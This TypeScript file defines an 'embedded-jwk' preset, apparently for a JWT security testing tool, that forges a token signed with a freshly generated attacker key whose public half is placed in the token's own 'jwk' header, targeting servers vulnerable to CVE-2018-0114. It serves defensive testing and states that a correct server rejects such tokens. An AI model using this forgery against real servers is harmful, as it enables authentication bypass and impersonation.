import { sign } from '../jws/sign';
import { createKey } from '../keys/generate';
import type { AttackPreset } from './types';

export const embeddedJwk: AttackPreset = {
  id: 'embedded-jwk',
  title: 'Embedded "jwk" header with an attacker key',
  tests:
    'Whether the server verifies with a key the token carries about itself: a fresh key pair is generated, its public half goes into the "jwk" header, and the token is signed with its private half.',
  correctServer:
    "Rejects it: keys come from the server's own configuration or trusted JWKS, never from the token being checked.",
  reference: 'RFC 7515 §4.1.3; RFC 8725 §3.10; CVE-2018-0114',
  async build({ header, payload }) {
    const attacker = await createKey('ES256');
    const { alg: _alg, use: _use, kid: _kid, ...jwk } = attacker.publicJwk;
    const forgedHeader = { ...header, alg: 'ES256', jwk };
    const token = await sign(forgedHeader, payload, JSON.stringify(attacker.privateJwk));
    return {
      token,
      header: forgedHeader,
      payload,
      attackerKey: JSON.stringify(attacker.privateJwk, null, 2),
    };
  },
};
